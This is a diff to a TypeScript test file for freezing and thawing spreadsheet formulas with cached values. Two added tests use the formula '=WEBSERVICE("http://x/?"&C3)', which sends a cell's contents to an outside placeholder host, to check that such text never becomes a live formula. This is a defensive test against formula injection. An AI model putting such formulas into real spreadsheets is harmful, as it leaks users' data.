@@ -1,11 +1,12 @@
 import fc from 'fast-check';
+import { contentText, formula, isFormula } from '../../../src/base/sheetDrawing';
 import { frozenContent, thawedContent } from '../../../src/scorecard/history/frozenFormula';
 
 test('a value stands before the formula, which can be had back', () => {
-  expect(frozenContent('=A1*2', 82.5)).toBe('=IF(TRUE,82.5,A1*2)');
-  expect(frozenContent('=A1*2', 1e-7)).toBe('=IF(TRUE,1E-7,A1*2)');
-  expect(frozenContent('=N4', '优"秀')).toBe('=IF(TRUE,"优""秀",N4)');
-  expect(frozenContent('=N4', '')).toBe('=IF(TRUE,"",N4)');
+  expect(frozenContent('=A1*2', 82.5)).toEqual(formula('=IF(TRUE,82.5,A1*2)'));
+  expect(frozenContent('=A1*2', 1e-7)).toEqual(formula('=IF(TRUE,1E-7,A1*2)'));
+  expect(frozenContent('=N4', '优"秀')).toEqual(formula('=IF(TRUE,"优""秀",N4)'));
+  expect(frozenContent('=N4', '')).toEqual(formula('=IF(TRUE,"",N4)'));
 });
 
 test.each([
@@ -26,10 +27,38 @@ test('thawing gives back exactly what was frozen', () => {
   fc.assert(
     fc.property(fc.string({ minLength: 1, maxLength: 60 }), values, (body, value) => {
       const frozen = frozenContent(`=${body}`, value);
-      fc.pre(typeof frozen === 'string' && frozen.startsWith('=IF(TRUE,'));
-      expect(thawedContent(frozen ?? '')).toBe(`=${body}`);
+      fc.pre(frozen !== null && isFormula(frozen));
+      expect(thawedContent(contentText(frozen ?? ''), value)).toEqual(formula(`=${body}`));
     }),
   );
-  expect(thawedContent('=IF(A1>0,1,2)')).toBeNull();
-  expect(thawedContent('说明')).toBeNull();
+  expect(thawedContent('=IF(A1>0,1,2)', 1)).toBeNull();
+  expect(thawedContent('说明', '说明')).toBeNull();
+});
+
+test('a text that looks like a formula is none, closed or opened', () => {
+  expect(frozenContent('=WEBSERVICE("http://x/?"&C3)', '=WEBSERVICE("http://x/?"&C3)')).toBeNull();
+  expect(thawedContent('=IF(TRUE,1,A1)', '=IF(TRUE,1,A1)')).toBeNull();
+});
+
+test('a text that was frozen as a formula becomes the text again', () => {
+  const text = '=WEBSERVICE("http://x/?"&C3)';
+  const frozen = '=IF(TRUE,"=WEBSERVICE(""http://x/?""&C3)",WEBSERVICE("http://x/?"&C3))';
+  expect(thawedContent(frozen, text)).toBe(text);
+});
+
+test('no text in a frozen formula is longer than Excel takes, and no character is cut', () => {
+  const texts = fc.string({ unit: 'binary', minLength: 200, maxLength: 900 });
+  fc.assert(
+    fc.property(texts, (text) => {
+      const frozen = contentText(frozenContent('=N4', text) ?? '');
+      fc.pre(frozen !== '');
+      const literals = [...frozen.matchAll(/"((?:[^"]|"")*)"/g)].map(([, inner = '']) => inner.replace(/""/g, '"'));
+      expect(literals.join('')).toBe(text);
+      for (const each of literals) {
+        expect(each.length).toBeLessThanOrEqual(255);
+        expect(each).not.toMatch(/[\uD800-\uDBFF]$/);
+      }
+      expect(thawedContent(frozen, text)).toEqual(formula('=N4'));
+    }),
+  );
 });
